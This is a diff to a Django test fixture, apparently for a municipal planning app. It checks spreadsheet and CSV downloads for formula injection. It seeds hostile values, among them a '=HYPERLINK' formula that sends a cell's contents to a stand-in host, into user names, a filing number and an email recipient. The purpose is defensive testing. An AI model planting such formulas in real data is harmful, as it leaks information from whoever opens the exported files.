@@ -6,15 +6,18 @@ import datetime as dt
 import re
 from types import SimpleNamespace
 
+from django.utils import timezone
+
 from accountability import services as accountability_services
 from action_plan import services as action_plan_services
 from isvimed_planning.models import OrgUnit
 from monitoring.matrices import KINDS
 from monitoring.matrix_services import snapshot_generate
 from monitoring.models import MatrixSnapshot
+from monitoring.submission_services import snapshot_send
 from projects.models import FundingSource, Product, Project
 from strategy.models import DevelopmentPlan, Indicator, Program
-from tests.accountability.builders import execution, report
+from tests.accountability.builders import execution, info_request, report
 from tests.action_plan.builders import program_all
 
 HYPERLINK = '=HYPERLINK("http://x?d="&C5,"clic")'
@@ -45,6 +48,7 @@ def hostile_data(*, planner, director, lead) -> SimpleNamespace:
     lead.first_name, lead.last_name = "=1+2", "@lead"
     lead.save()
 
+    info_request(received_on=dt.date(2025, 3, 3), filing_number=HYPERLINK[:40])  # a radicado is typed by staff
     rep = report(by=planner)
     accountability_services.report_transition(by=planner, report=rep, name="send")
     accountability_services.report_transition(by=director, report=rep, name="approve")
@@ -60,7 +64,13 @@ def hostile_data(*, planner, director, lead) -> SimpleNamespace:
         snapshot = MatrixSnapshot.objects.create(kind=kind, year=2025, cutoff=CUTOFF, requested_by=planner)
         snapshot_generate(snapshot_id=snapshot.pk)
         snapshots[kind] = snapshot
-    return SimpleNamespace(**vars(d), report=rep, plan=plan, snapshots=snapshots)
+    # Each generated matrix also sent to the Alcaldía: the sealed copy is downloaded as it was sent.
+    submissions = [
+        snapshot_send(snapshot=MatrixSnapshot.objects.get(pk=s.pk), by=planner, recipient=HYPERLINK[:200],
+                      channel="email", sent_at=timezone.now())
+        for s in snapshots.values()
+    ]
+    return SimpleNamespace(**vars(d), report=rep, plan=plan, snapshots=snapshots, submissions=submissions)
 
 
 # --- The walk list ---------------------------------------------------------------------------------
@@ -75,6 +85,9 @@ SPREADSHEET_ROUTES = {
     "monitoring:matrix_download": (
         "reader", lambda d: [f"/seguimiento/matrices/{s.pk}/descargar/" for s in d.snapshots.values()]
     ),
+    "monitoring:submission_download": (
+        "reader", lambda d: [f"/seguimiento/matrices/enviadas/{s.pk}/descargar/" for s in d.submissions]
+    ),
     "monitoring:cuadre_export": ("reader", lambda d: ["/seguimiento/cuadre/exportar/?anio=2025&corte=2025-06-30"]),
     "projects:index_xlsx": ("reader", lambda d: ["/proyectos/exportar/"]),
     "strategy:indicators_xlsx": ("reader", lambda d: ["/estrategia/indicadores/exportar/"]),
@@ -86,6 +99,14 @@ SPREADSHEET_ROUTES = {
     "accountability:public_csv": (
         "anonymous", lambda d: [f"/rendicion/publico/{d.report.pk}/{t}.csv" for t in ("programas", "proyectos", "territorios")]
     ),
+    "accountability:public_petitions_csv": (
+        "anonymous", lambda d: ["/rendicion/publico/peticiones/2025-T1/trimestral.csv", "/rendicion/publico/peticiones/2025/acceso.csv"]
+    ),
+    "transparency:project_csv": ("anonymous", lambda d: [f"/ciudadania/proyectos/{p.pk}/datos.csv" for p in (d.a, d.b)]),
+    "opendata:dataset_csv": (
+        "anonymous", lambda d: [f"/datos/{slug}.csv" for slug in ("plan-programas", "indicadores", "proyectos",
+                                                                "ejecucion-programas", "ejecucion-fuentes")]
+    ),
 }
 # Downloads that are not spreadsheets (PDFs, JSON, uploaded files): see test_content_disposition.py.
 OTHER_DOWNLOAD_ROUTES = {
@@ -93,6 +114,8 @@ OTHER_DOWNLOAD_ROUTES = {
     "budget:poai_pdf", "action_plan:pdf", "action_plan:public_pdf", "monitoring:evidence_download",
     "accountability:request_answer_file", "accountability:session_questionnaire", "accountability:report_pdf",
     "accountability:public_pdf", "accountability:public_json",
+    "accountability:petitions_report_pdf", "accountability:public_petitions_json", "transparency:evidence_download",
+    "opendata:catalogue", "opendata:dictionary_json",
 }
 # Management commands that write a spreadsheet (checked in test_formula_injection.py).
 EXPORT_COMMANDS = {"export_workbook", "export_matrix"}
